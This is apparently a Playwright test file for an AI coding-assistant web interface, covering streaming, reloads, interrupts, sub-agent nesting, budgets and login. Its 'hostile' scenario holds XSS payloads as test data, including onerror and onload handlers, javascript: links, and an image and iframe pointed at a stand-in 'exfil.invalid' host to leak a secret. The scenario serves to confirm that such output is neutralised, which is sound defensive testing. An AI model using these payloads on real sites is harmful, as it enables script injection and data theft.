// The scenarios driver.mjs runs. Each gets the helpers h (page, step,
// screenshot, result, what left the origin) and throws on a failed check.
// The "model" is the simulator: [[tool:NAME {json}]] in a message makes it
// call that tool, and it echoes the rest (docs/simulator.md).

import { daily } from "./daily.mjs";
import { find } from "./find.mjs";
import { attach } from "./attach.mjs";

const T = 30_000;

function check(cond, msg) {
  if (!cond) throw new Error(msg);
}

async function newConversation(h) {
  await h.page.goto(h.base + "/");
  const created = h.page.waitForResponse((r) => r.url().endsWith("/api/conversations") && r.request().method() === "POST");
  await h.page.getByTestId("new-conversation").click();
  const { id } = await (await created).json();
  await h.page.waitForURL((u) => u.pathname === "/c/" + id, { timeout: T });
  await h.page.locator("[data-kind=notice]").first().waitFor({ timeout: T });
  await h.page.locator('[data-testid=conn][data-state=live]').waitFor({ timeout: T });
  return id;
}

async function sendMessage(h, text) {
  const box = h.page.getByTestId("composer");
  await box.fill(text);
  await box.press("Enter");
}

/** turnEnds waits for the n-th turn footer (1-based). */
async function turnEnds(h, n, timeout = T) {
  await h.page.locator(".turn-footer").nth(n - 1).waitFor({ timeout });
}

/** inventory is what the DOM shows, by sequence number. */
async function inventory(h) {
  return h.page.evaluate(() =>
    [...document.querySelectorAll("[data-seq]")].map((e) => ({
      seq: Number(e.getAttribute("data-seq")),
      kind: e.getAttribute("data-kind"),
      cmid: e.getAttribute("data-cmid") || undefined,
      text: e.getAttribute("data-kind") === "tool" ? e.querySelector("[data-testid=tool-output]")?.textContent ?? "" : undefined,
    })));
}

/** domSeqs is every event's sequence number as the page shows it, in
 * document order: each element names the events folded into it
 * (data-seqs), the transcript those no element shows. */
async function domSeqs(h) {
  return h.page.evaluate(() =>
    [...document.querySelectorAll("[data-seqs]")].flatMap((e) =>
      (e.getAttribute("data-seqs") || "").split(" ").filter(Boolean).map(Number)));
}

function noDuplicates(inv) {
  const seen = new Set();
  for (const e of inv) {
    check(!seen.has(e.seq), `event ${e.seq} (${e.kind}) is shown twice`);
    seen.add(e.seq);
  }
}

const slowBash = (n, pause) =>
  `[[tool:Bash {"command":"for i in $(seq 1 ${n}); do echo line$i; sleep ${pause}; done"}]]`;

export const scenarios = {
  // The long-conversation benchmark (cmd/talkide BenchmarkWebUILongConversation,
  // which seeds the conversation): the time from navigation to the last
  // message rendered, then, while a reply streams at about 200 deltas/s,
  // every long task (PerformanceObserver "longtask") the page runs.
  async longconv(h) {
    const id = process.env.TALKIDE_BENCH_CONVERSATION;
    const lastSeq = Number(process.env.TALKIDE_BENCH_LAST_MESSAGE);
    check(id && lastSeq > 0, "TALKIDE_BENCH_CONVERSATION and TALKIDE_BENCH_LAST_MESSAGE are not set");
    await h.page.addInitScript((seq) => {
      window.__longtasks = [];
      new PerformanceObserver((l) => {
        for (const e of l.getEntries()) window.__longtasks.push(e.duration);
      }).observe({ type: "longtask", buffered: true });
      const mo = new MutationObserver(() => {
        if (!window.__lastAt && document.querySelector(`[data-seqs~="${seq}"]`)) {
          window.__lastAt = performance.now();
          mo.disconnect();
        }
      });
      mo.observe(document, { childList: true, subtree: true, attributes: true, attributeFilter: ["data-seqs"] });
    }, lastSeq);
    await h.page.goto(h.base + "/c/" + id);
    await h.page.waitForFunction(() => window.__lastAt, null, { timeout: T });
    const lastMessageMs = await h.page.evaluate(() => window.__lastAt);
    // The older items of the page render a few a frame after the last
    // message: wait for all of them, so that the footers counted below are
    // all the page's and the streaming figures do not include that work.
    await h.page.waitForFunction(() => !document.querySelector("[data-testid=transcript-items][data-unrendered]"), null, { timeout: T });
    const renderedMs = await h.page.evaluate(() => performance.now());
    const loadLongTasks = await h.page.evaluate(() => window.__longtasks.slice());
    await h.page.locator('[data-testid=conn][data-state=live]').waitFor({ timeout: T });
    const turns = await h.page.locator(".turn-footer").count();
    await h.screenshot("opened");
    // 5 ms before each delta of three words: about 200 deltas/s.
    const words = Array.from({ length: 1500 }, (_, i) => "word" + i).join(" ");
    await h.page.evaluate(() => (window.__longtasks = []));
    const t0 = Date.now();
    await sendMessage(h, "Stream this back. " + words + " [[sleep:5]]");
    await turnEnds(h, turns + 1, 120_000);
    const streamMs = Date.now() - t0;
    const reply = h.page.locator("[data-kind=text]").last();
    check((await reply.textContent()).includes("word1499"), "the streamed reply's last word is not on the page");
    const streamLongTasks = await h.page.evaluate(() => window.__longtasks.slice());
    await h.screenshot("streamed");
    h.result({ conversation: id, lastMessageMs, renderedMs, loadLongTasks, streamLongTasks, streamMs, domSeqs: await domSeqs(h) });
  },

  // A Task call: its sub-agent's text and tool cards show under the Task
  // card (collapsible), not as the main agent's; a reload, which reads the
  // compacted history, nests them the same way.
  async subagent(h) {
    const id = await newConversation(h);
    // The sub-agent's reply waits 300 ms before each delta: its Bash card
    // comes frames after its text, as with a real model, so the card must
    // re-render its nested part, not only show what it had when it opened.
    await sendMessage(h, 'Delegate this. [[tool:Task {"description":"look around","prompt":"please [[sleep:300]] [[tool:Bash {\\"command\\":\\"echo from-the-sub-agent\\"}]]"}]]');
    await turnEnds(h, 1);
    const nestedShape = async () => {
      const task = h.page.locator("[data-kind=tool][data-tool=Task]");
      check((await task.count()) === 1, `${await task.count()} Task cards`);
      const sub = task.locator("[data-testid=subagent]");
      const bash = sub.locator("[data-kind=tool][data-tool=Bash]");
      // The page renders in frames: wait for the card, then count.
      await bash.first().waitFor({ state: "attached", timeout: T }).catch(() => {});
      check((await bash.count()) === 1, "the sub-agent's Bash card is not under the Task card");
      check((await bash.locator("[data-testid=tool-output]").textContent()).includes("from-the-sub-agent"), "the sub-agent's Bash output is missing");
      check((await sub.locator("[data-kind=text]").count()) >= 1, "the sub-agent's text is not under the Task card");
      const all = await h.page.locator("[data-kind=tool][data-tool=Bash]").count();
      check(all === 1, `${all} Bash cards in the page: the sub-agent's work shows outside its Task card too`);
      const parent = await bash.getAttribute("data-parent");
      check(parent && parent.length > 0, "the nested card names no parent");
      // Collapsible: the sub-agent's part folds and unfolds.
      await task.evaluate((e) => (e.open = true));
      const summary = sub.locator("> summary");
      const before = await sub.evaluate((e) => e.open);
      await summary.click();
      check((await sub.evaluate((e) => e.open)) === !before, "the sub-agent's part does not fold");
      await summary.click();
      check((await sub.evaluate((e) => e.open)) === before, "the sub-agent's part does not unfold");
    };
    await nestedShape();
    await h.screenshot("nested");
    const live = await domSeqs(h);
    await h.page.reload();
    await turnEnds(h, 1);
    await nestedShape();
    await h.screenshot("nested-after-reload");
    h.result({ conversation: id, domSeqs: live, reloadedSeqs: await domSeqs(h) });
  },

  // Text and tool output appear while the turn streams; the card names the
  // command and, once done, its duration; the footer counts tokens.
  async stream(h) {
    const id = await newConversation(h);
    await sendMessage(h, "Count for me, slowly. " + slowBash(6, 0.5));
    const card = h.page.locator('[data-kind=tool][data-tool=Bash]');
    await card.locator("[data-testid=tool-output]").filter({ hasText: "line2" }).waitFor({ timeout: T });
    const mid = await card.getAttribute("data-state");
    const midOut = await card.locator("[data-testid=tool-output]").textContent();
    check(mid === "running", `the card is ${mid} while the command runs`);
    check(!midOut.includes("line6"), "the whole output arrived at once, not while streaming");
    check(await h.page.locator("[data-kind=text]").first().textContent().then((t) => t.includes("Count for me")),
      "the model's text did not appear before the tool ran");
    check((await h.page.locator(".turn-footer").count()) === 0, "a footer before the turn ended");
    await h.screenshot("streaming");
    await turnEnds(h, 1);
    check((await card.getAttribute("data-state")) === "ok", "the card did not end ok");
    const summary = await card.locator("[data-testid=tool-summary]").textContent();
    check(summary.includes("for i in $(seq 1 6)"), `the card's summary is ${summary}`);
    const dur = await card.locator("[data-testid=tool-duration]").textContent();
    check(/^\d+(\.\d)? (ms|s)$/.test(dur.trim()), `the card's duration is "${dur}"`);
    const secs = parseFloat(dur);
    check(dur.includes(" s") && secs >= 2.5, `the command ran ${dur}, want about 3 s`);
    const out = await card.locator("[data-testid=tool-output]").textContent();
    check(out.trim() === [1, 2, 3, 4, 5, 6].map((i) => "line" + i).join("\n"), `the output is ${JSON.stringify(out)}`);
    const tokens = await h.page.locator(".turn-footer [data-testid=tokens]").textContent();
    check(/[1-9][\d,]* in · [1-9][\d,]* out/.test(tokens), `the footer's tokens: ${tokens}`);
    const inv = await inventory(h);
    noDuplicates(inv);
    h.result({ conversation: id, inventory: inv, tokens, duration: dur });
  },

  // A reload in the middle of a turn: the page comes back with what it had,
  // follows the rest, and shows every event once.
  async reload(h) {
    const id = await newConversation(h);
    await sendMessage(h, "Survive a reload. " + slowBash(8, 0.4));
    const out = h.page.locator("[data-kind=tool] [data-testid=tool-output]");
    await out.filter({ hasText: "line2" }).waitFor({ timeout: T });
    await h.screenshot("before-reload");
    // The history page the reloaded page opens with: what it shows of the
    // log up to last_seq (compacted, if the turn ended meanwhile), the
    // stream the rest.
    const history = h.page.waitForResponse((r) => /\/api\/conversations\/[^/]+\/events/.test(r.url()), { timeout: T })
      .then(async (r) => { const p = await r.json(); return { seqs: p.events.map((e) => e.seq), last_seq: p.last_seq }; });
    await h.page.reload();
    await h.page.locator("[data-kind=tool]").waitFor({ timeout: T });
    await h.screenshot("after-reload");
    await turnEnds(h, 1);
    const inv = await inventory(h);
    noDuplicates(inv);
    const text = await out.textContent();
    check(text.trim() === [1, 2, 3, 4, 5, 6, 7, 8].map((i) => "line" + i).join("\n"), `the output after the reload is ${JSON.stringify(text)}`);
    // The reloaded page did not send the message again.
    await h.page.waitForTimeout(500);
    check((await h.page.locator("[data-kind='user.message']").count()) === 1, "the message shows twice");
    h.result({ conversation: id, inventory: inv, domSeqs: await domSeqs(h), history: await history });
  },

  // The control-plane restarts mid-turn: the header says so, the stream
  // resumes with Last-Event-ID, and the turn finishes with nothing lost.
  async restart(h) {
    const id = await newConversation(h);
    await sendMessage(h, "Survive a redeploy. " + slowBash(10, 0.4));
    const out = h.page.locator("[data-kind=tool] [data-testid=tool-output]");
    await out.filter({ hasText: "line2" }).waitFor({ timeout: T });
    const states = [];
    await h.page.exposeFunction("__connState", (s) => states.push(s));
    await h.page.evaluate(() => {
      const el = document.querySelector("[data-testid=conn]");
      new MutationObserver(() => window.__connState(el.getAttribute("data-state"))).observe(el, { attributes: true });
    });
    await h.step("restart-controlplane");
    await h.page.locator("[data-testid=conn][data-state=live]").waitFor({ timeout: T });
    await turnEnds(h, 1, 60_000);
    await h.screenshot("after-restart");
    check(states.some((s) => s === "reconnecting" || s === "offline"), `the header never left "live": ${states.join(",")}`);
    const inv = await inventory(h);
    noDuplicates(inv);
    const text = await out.textContent();
    check(text.trim() === Array.from({ length: 10 }, (_, i) => "line" + (i + 1)).join("\n"), `the output across the restart is ${JSON.stringify(text)}`);
    h.result({ conversation: id, inventory: inv, states, domSeqs: await domSeqs(h) });
  },

  // Esc during a long Bash: "stopping…" until the turn really ended, then
  // interrupted; the next message works; one typed during a turn waits in
  // the queue and goes after it.
  async interrupt(h) {
    const id = await newConversation(h);
    await sendMessage(h, '[[tool:Bash {"command":"echo started; sleep 60"}]]');
    await h.page.locator("[data-kind=tool] [data-testid=tool-output]").filter({ hasText: "started" }).waitFor({ timeout: T });
    // The interrupt is held up by the test until it has seen "stopping…".
    let release;
    const held = new Promise((r) => (release = r));
    await h.page.route("**/interrupt", async (route) => {
      await held;
      await route.continue();
    });
    await h.page.getByTestId("composer").press("Escape");
    await h.page.getByTestId("turn-status").filter({ hasText: "stopping…" }).waitFor({ timeout: T });
    await h.screenshot("stopping");
    check((await h.page.locator(".turn-footer").count()) === 0, "the turn ended before the interrupt reached the server");
    release();
    await h.page.locator(".turn-footer[data-code=interrupted]").waitFor({ timeout: T });
    await h.page.getByTestId("turn-status").filter({ hasNotText: "stopping" }).waitFor({ timeout: T });
    check((await h.page.locator("[data-kind=tool]").getAttribute("data-state")) === "error", "the interrupted card is not marked failed");
    await h.screenshot("interrupted");

    await sendMessage(h, "after the interrupt");
    await turnEnds(h, 2);
    check((await h.page.locator(".turn-footer").nth(1).getAttribute("data-kind")) === "turn.finished", "the next message's turn did not finish");

    // A message typed while a turn runs is queued, editable, sent after.
    await sendMessage(h, "first " + slowBash(4, 0.5));
    await h.page.locator("[data-kind=tool]").nth(1).locator("[data-testid=tool-output]").filter({ hasText: "line1" }).waitFor({ timeout: T });
    await sendMessage(h, "queued draft");
    const queued = h.page.getByTestId("queue").locator("input");
    await queued.waitFor({ timeout: T });
    await queued.fill("queued message, edited");
    await h.screenshot("queued");
    check((await h.page.locator("[data-kind='user.message']").count()) === 3, "the queued message was sent while the turn ran");
    await turnEnds(h, 4, 60_000);
    const users = await h.page.locator("[data-kind='user.message']").allTextContents();
    check(users[3] === "queued message, edited", `the queued message went as ${JSON.stringify(users[3])}`);
    check((await h.page.getByTestId("queue").count()) === 0, "the queue is not empty");
    const inv = await inventory(h);
    noDuplicates(inv);
    h.result({ conversation: id, inventory: inv });
  },

  // Hostile model output: raw HTML, a javascript: link, a remote image.
  // Nothing runs and nothing is requested from another origin.
  async hostile(h) {
    const id = await newConversation(h);
    const attack = [
      "Look: <img src=x onerror=\"window.__pwned='img'\"> and <script>window.__pwned='script'</script>",
      "[click me](javascript:window.__pwned='link') and <a href=\"javascript:window.__pwned='a'\">raw</a>",
      "![tracker](https://exfil.invalid/leak.png?secret=s3cr3t) and <iframe src=\"https://exfil.invalid/\"></iframe>",
      "<svg onload=\"window.__pwned='svg'\"></svg> [data](data:text/html,<script>alert(1)</script>)",
      "```js\nconst x = '<img src=x onerror=alert(1)>';\n```",
    ].join("\n\n");
    await sendMessage(h, attack);
    await turnEnds(h, 1);
    const reply = h.page.locator("[data-kind=text]").first();
    await reply.waitFor({ timeout: T });
    // Click what looks like links.
    // Click what would run script if it were a link; links to web sites
    // are the user's to follow and not clicked here.
    for (const a of await reply.locator("a:not([href^='http'])").all()) await a.click({ timeout: 2000 }).catch(() => {});
    await h.page.waitForTimeout(500);
    const pwned = await h.page.evaluate(() => window.__pwned);
    check(pwned === undefined, `model output ran script: ${pwned}`);
    const bad = await reply.evaluate((el) => ({
      handlers: [...el.querySelectorAll("*")].filter((n) => [...n.attributes].some((a) => a.name.startsWith("on"))).length,
      scripts: el.querySelectorAll("script, iframe, svg, object, embed").length,
      jsLinks: [...el.querySelectorAll("a[href]")].filter((a) => !/^(https?:|mailto:|#|\/)/i.test(a.getAttribute("href"))).length,
      foreignImages: [...el.querySelectorAll("img")].filter((i) => !i.src.startsWith(location.origin) && !i.src.startsWith("data:")).length,
      text: el.textContent,
    }));
    check(bad.handlers === 0 && bad.scripts === 0 && bad.jsLinks === 0 && bad.foreignImages === 0,
      `dangerous markup survived: ${JSON.stringify(bad)}`);
    check(bad.text.includes("<img src=x onerror="), "the raw HTML is not shown as text");
    check(bad.text.includes("image not loaded"), "the remote image is not shown as blocked");
    check(h.foreign.length === 0, `requests left the origin: ${h.foreign.join(", ")}`);
    check((await h.page.locator(".hljs-string, .hljs-keyword").count()) > 0, "the code block is not highlighted");
    await h.screenshot("hostile");
    h.result({ conversation: id, foreign: h.foreign, csp: h.cspViolations });
  },

  // An Edit shows as a diff, the Changes view lists the file, an issue
  // Mara files appears.
  async edit(h) {
    const id = await newConversation(h);
    await sendMessage(h, '[[tool:Write {"file_path":"notes.txt","content":"alpha\\nbeta\\n"}]]');
    await turnEnds(h, 1);
    await sendMessage(h, '[[tool:Edit {"file_path":"notes.txt","old_string":"beta","new_string":"gamma"}]]');
    await turnEnds(h, 2);
    const diff = h.page.locator("[data-tool=Edit] [data-testid=diff]");
    const del = await diff.locator(".line.del").allTextContents();
    const add = await diff.locator(".line.add").allTextContents();
    check(del.join("").includes("- beta") && add.join("").includes("+ gamma"), `the Edit's diff: -${JSON.stringify(del)} +${JSON.stringify(add)}`);
    const changes = await h.page.getByTestId("changes").textContent();
    check(changes.includes("notes.txt") && changes.includes("2 edits"), `the Changes view: ${changes}`);
    await h.screenshot("diff");

    await sendMessage(h, 'File it. [[tool:mcp__talkide-issue-tracking__report_issue {"title":"Flaky browser test","body":"It fails one run in ten.","severity":"high","labels":["ci"]}]]');
    await turnEnds(h, 3);
    await h.page.getByTestId("issues-tab").click();
    await h.page.getByTestId("issues").filter({ hasText: "Flaky browser test" }).waitFor({ timeout: T });
    await h.screenshot("issue");

    h.result({ conversation: id });
  },

  // Rename and archive round trip, by keyboard; a turn running in a
  // conversation that is not open shows in the list, and its end too.
  async organize(h) {
    const a = await newConversation(h);
    await sendMessage(h, "Work in the background. " + slowBash(8, 0.5));
    await h.page.locator('[data-kind=tool][data-tool=Bash][data-state=running]').waitFor({ timeout: T });
    const created = h.page.waitForResponse((r) => r.url().endsWith("/api/conversations") && r.request().method() === "POST");
    await h.page.getByTestId("new-conversation").click();
    const b = (await (await created).json()).id;
    await h.page.waitForURL((u) => u.pathname === "/c/" + b, { timeout: T });
    const rowA = h.page.locator(`li[data-conversation="${a}"]`);
    await h.page.locator(`li[data-conversation="${a}"][data-status=running]`).waitFor({ timeout: T });
    check(await rowA.getByTestId("running").isVisible(), "no running mark on the conversation that is not open");
    check((await h.page.locator(`li[data-conversation="${b}"]`).getAttribute("data-status")) === "idle", "the new conversation shows as running");
    await h.screenshot("running-elsewhere");
    await h.page.locator(`li[data-conversation="${a}"][data-status=idle]`).waitFor({ timeout: T });
    check((await rowA.getByTestId("running").count()) === 0, "the running mark stayed after the turn ended");

    // Rename by keyboard: the button, then the field, Enter saves.
    await rowA.getByTestId("rename").focus();
    await h.page.keyboard.press("Enter");
    const field = rowA.getByTestId("rename-input");
    await field.waitFor({ timeout: T });
    check(await field.evaluate((e) => e === document.activeElement), "the title field did not take the focus");
    const saved = h.page.waitForResponse((r) => r.url().endsWith("/api/conversations/" + a) && r.request().method() === "PATCH");
    await h.page.keyboard.type("Renamed by keyboard");
    await h.page.keyboard.press("Enter");
    check((await saved).status() === 200, "the rename was refused");
    await rowA.getByTestId("conversation-title").filter({ hasText: "Renamed by keyboard" }).waitFor({ timeout: T });
    // Escape gives up without saving.
    await rowA.getByTestId("rename").click();
    await field.fill("Not this");
    await field.press("Escape");
    await rowA.getByTestId("conversation-title").filter({ hasText: "Renamed by keyboard" }).waitFor({ timeout: T });
    await h.page.reload();
    await rowA.getByTestId("conversation-title").filter({ hasText: "Renamed by keyboard" }).waitFor({ timeout: T });

    // Archive: gone from the list; "show archived" brings it back, marked;
    // unarchive, and it stays when archived ones are hidden again.
    await rowA.getByTestId("archive").focus();
    await h.page.keyboard.press("Enter");
    await rowA.waitFor({ state: "detached", timeout: T });
    await h.page.getByTestId("show-archived").check();
    await h.page.locator(`li[data-conversation="${a}"][data-archived="1"]`).waitFor({ timeout: T });
    await h.screenshot("archived");
    await rowA.getByTestId("unarchive").click();
    await h.page.locator(`li[data-conversation="${a}"][data-archived="0"]`).waitFor({ timeout: T });
    await h.page.getByTestId("show-archived").uncheck();
    await h.page.locator(`li[data-conversation="${a}"][data-archived="0"]`).waitFor({ timeout: T });
    h.result({ conversation: a, other: b });
  },

  // A budget the operator set shows in the header as used and remaining,
  // and moves after a turn; the turn's footer shows what it cost.
  async budget(h) {
    const id = await newConversation(h);
    const badge = h.page.getByTestId("budget").locator("[data-kind=spend_per_day]");
    await badge.waitFor({ timeout: T });
    const before = { used: await badge.getAttribute("data-used"), remaining: await badge.getAttribute("data-remaining") };
    await sendMessage(h, "What does this cost?");
    await turnEnds(h, 1);
    const cost = h.page.locator(".turn-footer").first().getByTestId("cost");
    await cost.waitFor({ timeout: T });
    const usd = await cost.getAttribute("data-usd");
    check(Number(usd) > 0, `the footer's cost is ${usd}`);
    check(/^(\$\d|<\$0\.0001)/.test((await cost.textContent()).trim()), `the footer shows "${await cost.textContent()}"`);
    // The header is read again after the turn; its calls settle one by
    // one, the last a moment after it ends, so wait until the header has
    // all of it (one turn: what its footer charged), not the first move.
    await h.page.waitForFunction(
      (want) => {
        const e = document.querySelector("[data-testid=budget] [data-kind=spend_per_day]");
        return e && e.getAttribute("data-used") === want;
      },
      usd,
      { timeout: T },
    );
    const after = { used: await badge.getAttribute("data-used"), remaining: await badge.getAttribute("data-remaining") };
    const text = await badge.textContent();
    check(text.includes("used") && text.includes("left"), `the header says "${text}"`);
    await h.screenshot("budget");
    h.result({ conversation: id, before, after, cost: usd, text });
  },

  // A tenant-admin (TALKIDE_EXPECT=admin) opens the tenant's budget from
  // the header: the tenant's and each member's limits, and each member's
  // spend; a member (TALKIDE_EXPECT=member) has no such button, the API
  // refuses them the view, and they send one message, which the admin's
  // run then finds in the member's spend.
  async tenantbudget(h) {
    const tenant = h.env.TALKIDE_TENANT;
    await h.page.goto(h.base + "/");
    if (h.env.TALKIDE_EXPECT === "member") {
      await h.page.getByTestId("budget").waitFor({ timeout: T });
      const id = await newConversation(h);
      await sendMessage(h, "What did I spend?");
      await turnEnds(h, 1);
      check((await h.page.getByTestId("tenant-budget-open").count()) === 0, "a member is offered the tenant's budget");
      const status = await h.page.evaluate(async (t) => (await fetch(`/api/tenants/${t}/budget`)).status, tenant);
      check(status === 404, `a member asking for the tenant's budget got ${status}`);
      const own = await h.page.getByTestId("budget").locator("[data-kind=spend_per_day]").getAttribute("data-used");
      h.result({ conversation: id, status, own });
      return;
    }
    await h.page.getByTestId("tenant-budget-open").click();
    const view = h.page.locator(`[data-testid=tenant-budget-view][data-scope="${tenant}"]`);
    await view.waitFor({ timeout: T });
    const limits = await view.locator("tr[data-subject]").evaluateAll((rows) =>
      rows.map((r) => ({ subject: r.dataset.subject, kind: r.dataset.kind, withheld: r.dataset.withheld, used: r.dataset.used, remaining: r.dataset.remaining })));
    const usage = await view.locator("[data-testid=tenant-usage] tr[data-user]").evaluateAll((rows) =>
      rows.map((r) => ({ user: r.dataset.user, calls: r.dataset.calls, tokens: r.dataset.tokens, cost: r.dataset.cost })));
    await h.screenshot("tenant-budget");
    await h.page.getByTestId("tenant-budget-close").click();
    await view.waitFor({ state: "detached", timeout: T });
    h.result({ limits, usage });
  },

  // A control-plane without a local user: the page offers a login, the
  // provider's form is filled, the browser lands back on the app with a
  // session, a turn streams, and after Log out the API answers 401.
  async login(h) {
    await h.page.goto(h.base + "/");
    const link = h.page.getByTestId("login");
    await link.waitFor({ timeout: T });
    const href = await link.getAttribute("href");
    check(href === "/auth/login?return=%2F", `the login link is ${href}`);
    await h.screenshot("logged-out");
    await link.click();
    await h.page.waitForURL((u) => u.origin === h.env.TALKIDE_OP && u.pathname.startsWith("/login/"), { timeout: T });
    await h.page.locator("#username").fill(h.env.TALKIDE_OP_USER);
    await h.page.locator("#password").fill(h.env.TALKIDE_OP_PASSWORD);
    await h.screenshot("provider-form");
    await h.page.locator("button[type=submit]").click();
    await h.page.waitForURL((u) => u.origin === new URL(h.base).origin && u.pathname === "/", { timeout: T });
    await h.page.getByTestId("logout").waitFor({ timeout: T });
    const user = await h.page.getByTestId("user").textContent();
    check(user === h.env.TALKIDE_OP_USER, `the header names ${user}`);
    check((await h.page.getByTestId("login").count()) === 0, "the login link is still shown");
    const cookies = (await h.ctx.cookies(h.base)).filter((c) => c.name === "__Host-talkide_session");
    check(cookies.length === 1, `session cookies: ${JSON.stringify(cookies.map((c) => c.name))}`);

    const id = await newConversation(h);
    await sendMessage(h, "Hello after the login.");
    await turnEnds(h, 1);
    const text = await h.page.locator("[data-kind=text]").first().textContent();
    check(text.includes("Hello after the login"), `the streamed text is ${text}`);
    await h.screenshot("logged-in");

    await h.page.getByTestId("logout").click();
    await h.page.getByTestId("login").waitFor({ timeout: T });
    const after = await h.page.evaluate(async () => (await fetch("/api/conversations")).status);
    check(after === 401, `the API answered ${after} after Log out`);
    const left = (await h.ctx.cookies(h.base)).filter((c) => c.name === "__Host-talkide_session");
    check(left.length === 0, "the session cookie outlived Log out");
    // The login link brings the browser back to the page it was on.
    const back = await h.page.getByTestId("login").getAttribute("href");
    check(back === "/auth/login?return=" + encodeURIComponent("/c/" + id), `the login link after Log out is ${back}`);
    const c = cookies[0];
    h.result({ conversation: id, cookie: { name: c.name, secure: c.secure, httpOnly: c.httpOnly, sameSite: c.sameSite, path: c.path, domain: c.domain, expires: c.expires } });
  },
};

// What a day of use turned up (daily.mjs, browser_daily_test.go).
Object.assign(scenarios, daily);
// Attachments in the composer (attach.mjs, browser_attach_test.go).
Object.assign(scenarios, attach);
// Finding a conversation (find.mjs, browser_find_test.go).
Object.assign(scenarios, find);
